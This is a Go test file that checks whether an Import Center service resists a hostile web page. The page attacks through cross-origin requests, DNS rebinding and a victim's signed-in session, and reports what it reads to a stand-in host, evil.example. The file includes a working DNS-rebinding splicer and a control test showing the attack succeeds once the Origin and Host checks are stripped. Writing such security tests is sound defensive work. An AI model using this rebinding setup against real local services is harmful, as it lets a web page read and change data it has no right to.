package importcenter

import (
	_ "embed" // the page
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"tapline.dev/schemas"
)

//go:embed testdata/hostile.js
var hostileScript string

// hostileTimeout bounds a visit: Chromium starts slowly on a busy machine.
const hostileTimeout = 3 * time.Minute

// hostileSite serves a page that attacks an Import Center, and receives the page's results.
type hostileSite struct {
	t      *testing.T
	server *httptest.Server
	attack attack
	served atomic.Bool
	found  chan []string
}

// attack is whom the page attacks and how.
type attack struct {
	base     string // the Import Center; "" is the page's own origin
	signIn   string
	signedIn func() bool
}

func newHostileSite(t *testing.T, a attack) *hostileSite {
	t.Helper()
	s := &hostileSite{t: t, attack: a, found: make(chan []string, 1)}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /page", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, "<!doctype html><body><script>const BASE=%q, SIGN_IN=%q, REPORT=%q;%s</script>",
			s.attack.base, s.attack.signIn, s.url("evil.example", "/report"), hostileScript)
		s.served.Store(true)
	})
	mux.HandleFunc("GET /signed-in", func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(s.attack.signedIn()) })
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		findings := []string{}
		if err := json.Unmarshal(raw, &findings); err != nil {
			t.Errorf("the page reports %q", raw)
		}
		s.found <- findings
	})
	s.server = httptest.NewUnstartedServer(mux)
	s.server.Config.SetKeepAlivesEnabled(false)
	s.server.Start()
	t.Cleanup(s.server.Close)
	return s
}

func (s *hostileSite) url(host, path string) string {
	u, _ := url.Parse(s.server.URL)
	return "http://" + net.JoinHostPort(host, u.Port()) + path
}

// visit opens a page in Chromium and returns what the page could read or change.
// Every host name under example resolves to this machine.
func (s *hostileSite) visit(page string) []string {
	s.t.Helper()
	program, err := exec.LookPath("chromium")
	if err != nil && os.Getenv("CI") == "true" {
		s.t.Fatal("chromium is missing: .ci/run installs it")
	}
	if err != nil {
		s.t.Skip("chromium is not installed, so that no browser can visit a hostile page")
	}
	browser := exec.CommandContext(s.t.Context(), program, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
		"--no-first-run", "--disable-popup-blocking", "--ignore-certificate-errors", "--host-resolver-rules=MAP *.example 127.0.0.1",
		// The server must be safe without the protections that newer browsers add.
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
		"--user-data-dir="+s.t.TempDir(), page)
	browser.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := browser.Start(); err != nil {
		s.t.Fatal(err)
	}
	defer func() {
		_ = syscall.Kill(-browser.Process.Pid, syscall.SIGKILL) // its children too
		_ = browser.Wait()
	}()
	select {
	case findings := <-s.found:
		return findings
	case <-time.After(hostileTimeout):
		s.t.Fatalf("the page %s has reported nothing within %s", page, hostileTimeout)
		return nil
	}
}

// rebound serves a host name whose address changes (DNS rebinding): connections go to the
// hostile page until that has been served, and then to the target. It returns the name's
// origin.
func (s *hostileSite) rebound(target string) string {
	s.t.Helper()
	listener, err := (&net.ListenConfig{}).Listen(s.t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { _ = listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go s.splice(conn, target)
		}
	}()
	return fmt.Sprintf("http://rebound.example:%d", listener.Addr().(*net.TCPAddr).Port)
}

func (s *hostileSite) splice(conn net.Conn, target string) {
	defer func() { _ = conn.Close() }()
	// For connections that the browser opens in advance the target is not chosen yet.
	first := make([]byte, 1)
	if _, err := io.ReadFull(conn, first); err != nil {
		return
	}
	to := target
	if !s.served.Load() {
		to = s.server.Listener.Addr().String()
	}
	upstream, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer func() { _ = upstream.Close() }()
	if _, err := upstream.Write(first); err != nil {
		return
	}
	go func() { _, _ = io.Copy(upstream, conn); _ = upstream.Close() }()
	_, _ = io.Copy(conn, upstream)
}

func (c *center) fillForHostilePage(key string) map[string]int {
	c.t.Helper()
	if a := c.as(key, "POST", "/v1/apply?offline=true", `{"documents":[`+connection+","+account+","+customers+`]}`); a.status != http.StatusOK {
		c.t.Fatalf("apply = %d %s", a.status, a.text)
	}
	return c.written()
}

// TestHostilePage: somebody visits with Chromium a page of another site, and one whose name
// is rebound to Import Center's address. They can read and change nothing: without sign-in,
// with keys, and with a session's cookie in the browser.
func TestHostilePage(t *testing.T) {
	t.Parallel()
	check := func(t *testing.T, c *center, before map[string]int, findings []string) {
		t.Helper()
		for _, f := range findings {
			t.Errorf("the page has %s", f)
		}
		if diff := cmp.Diff(before, c.written()); diff != "" {
			t.Errorf("the page has written (-before +after):\n%s", diff)
		}
	}
	for mode, begin := range map[string]func(t *testing.T) (*center, string){
		"without sign-in": func(t *testing.T) (*center, string) { return start(t), "" },
		"with keys": func(t *testing.T) (*center, string) {
			c := startWithKeys(t)
			return c, c.writeKey("admin", schemas.AccessKeySpec{Role: "admin"})
		},
	} {
		t.Run("another origin, "+mode, func(t *testing.T) {
			t.Parallel()
			c, key := begin(t)
			before := c.fillForHostilePage(key)
			site := newHostileSite(t, attack{base: c.url})
			check(t, c, before, site.visit(site.url("evil.example", "/page")))
		})
		t.Run("a name that was rebound, "+mode, func(t *testing.T) {
			t.Parallel()
			c, key := begin(t)
			before := c.fillForHostilePage(key)
			site := newHostileSite(t, attack{})
			origin := site.rebound(strings.TrimPrefix(c.url, "http://"))
			check(t, c, before, site.visit(origin+"/page"))
		})
	}
	t.Run("another origin, with a session", func(t *testing.T) {
		t.Parallel()
		c, p, _ := startWithOIDC(t)
		p.storage.mu.Lock()
		p.storage.groups["id1"] = []string{"tapline-editors"}
		p.storage.mu.Unlock()
		before := c.fillForHostilePage(c.writeKey("admin", schemas.AccessKeySpec{Role: "admin"}))
		before[c.topics.Audit()]++ // the person's own sign-in
		signedIn := func() bool {
			return strings.Contains(strings.Join(c.log(c.topics.Audit(), 0), "\n"), `"action":"sign-in"`)
		}
		site := newHostileSite(t, attack{base: c.url, signIn: c.url + "/auth/login?return=/v1/caller", signedIn: signedIn})
		check(t, c, before, site.visit(site.url("evil.example", "/page")))
		if !signedIn() {
			t.Error("nobody has signed in, so that the page had no session to use")
		}
	})
}

// TestHostilePageWithoutTheGuard shows that the attack works on an Import Center that does
// not see the headers Host and Origin of the browser.
func TestHostilePageWithoutTheGuard(t *testing.T) {
	t.Parallel()
	c := start(t)
	before := c.fillForHostilePage("")
	target, err := url.Parse(c.url)
	if err != nil {
		t.Fatal(err)
	}
	unguarded := httptest.NewServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(target)
		r.Out.Host = target.Host
		for _, name := range []string{"Origin", "Sec-Fetch-Site"} {
			r.Out.Header.Del(name)
		}
	}})
	t.Cleanup(unguarded.Close)
	site := newHostileSite(t, attack{})
	origin := site.rebound(strings.TrimPrefix(unguarded.URL, "http://"))
	findings := strings.Join(site.visit(origin+"/page"), "\n")
	for _, want := range []string{"read /v1/connections", "read /v1/imports", "changed /v1/apply", "a window"} {
		if !strings.Contains(findings, want) {
			t.Errorf("without the guard the page has not %s; it has:\n%s", want, findings)
		}
	}
	if after := c.written(); after[c.topics.Commands()] <= before[c.topics.Commands()] || after[c.topics.Resources()] <= before[c.topics.Resources()] {
		t.Errorf("without the guard the page has written nothing: %v, %v", before, after)
	}
}
